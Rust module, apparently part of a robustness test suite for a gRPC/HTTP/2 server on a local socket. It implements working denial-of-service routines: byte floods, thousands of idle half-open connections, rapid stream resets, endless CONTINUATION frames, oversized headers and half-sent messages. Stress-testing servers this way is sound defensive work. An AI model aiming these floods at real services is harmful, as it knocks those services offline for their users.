//! Attacks below the messages: bytes that are no HTTP, frames that are no call, calls that are no
//! message.

use std::{path::Path, time::Duration};

use fastrand::Rng;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::sleep,
};
use tonic::Status;

use super::{
    frames::{CONTINUATION, DATA, END_HEADERS, HEADERS, PREFACE, RST_STREAM, frame, headers},
    peer::bare,
};

pub(super) fn noise(rng: &mut Rng, bytes: usize) -> Vec<u8> {
    std::iter::repeat_with(|| rng.u8(..)).take(bytes).collect()
}

/// Writes the same kind of bytes until it is cut off, or has written 64 MiB; reads what comes.
pub(super) async fn flood(
    socket: &Path,
    mut more: impl FnMut(&mut Rng) -> Vec<u8>,
    rng: &mut Rng,
) -> Result<(), Status> {
    let first: &[u8] = if rng.bool() { PREFACE } else { &[] };
    let stream = bare(socket, first).await?;
    let (mut reader, mut writer) = stream.into_split();
    let read = async {
        let mut sink = [0; 4096];
        while reader.read(&mut sink).await.is_ok_and(|read| read > 0) {}
    };
    let write = async {
        let mut written = 0;
        while written < 64 << 20 {
            let bytes = more(rng);
            if writer.write_all(&bytes).await.is_err() {
                return;
            }
            written += bytes.len();
        }
    };
    tokio::select! { () = read => {}, () = write => {} }
    Ok(())
}

pub(super) async fn silence(socket: &Path) -> Result<(), Status> {
    let mut held = Vec::new();
    for i in 0..2_000 {
        let first = if i % 2 == 0 { PREFACE } else { &PREFACE[..i % PREFACE.len()] };
        held.extend(bare(socket, first).await);
    }
    sleep(Duration::from_secs(5)).await;
    Ok(())
}

pub(super) async fn resets(socket: &Path, rng: &mut Rng) -> Result<(), Status> {
    let mut id: u32 = 1;
    let reset = |_: &mut Rng| {
        let mut frames = if id == 1 { PREFACE.to_vec() } else { Vec::new() };
        frames.extend(frame(HEADERS, END_HEADERS, id, &headers()));
        frames.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        id += 2;
        frames
    };
    flood(socket, reset, rng).await
}

pub(super) async fn continuations(socket: &Path, rng: &mut Rng) -> Result<(), Status> {
    let mut first = true;
    let more = |_: &mut Rng| {
        let begin = [PREFACE, &frame(HEADERS, 0, 1, &headers())].concat();
        if std::mem::take(&mut first) { begin } else { frame(CONTINUATION, 0, 1, &[]) }
    };
    flood(socket, more, rng).await
}

pub(super) async fn large_headers(socket: &Path, rng: &mut Rng) -> Result<(), Status> {
    let mut first = true;
    let more = |_: &mut Rng| {
        let begin = [PREFACE, &frame(HEADERS, 0, 1, &headers())].concat();
        let mut field = vec![0, 1, b'x', 0x7f, 0x81, 0x7f];
        field.resize(16_384, b'y');
        if std::mem::take(&mut first) { begin } else { frame(CONTINUATION, 0, 1, &field) }
    };
    flood(socket, more, rng).await
}

/// Says how long a message is, and begins it, on as many streams as there may be.
pub(super) async fn half_message(socket: &Path) -> Result<(), Status> {
    let mut stream = bare(socket, PREFACE).await?;
    for id in (1..512).step_by(2) {
        let length = [0u8, 0, 0, 0xff, 0xff, 1, 2, 3];
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &headers())).await?;
        stream.write_all(&frame(DATA, 0, id, &length)).await?;
    }
    sleep(Duration::from_secs(5)).await;
    Ok(())
}
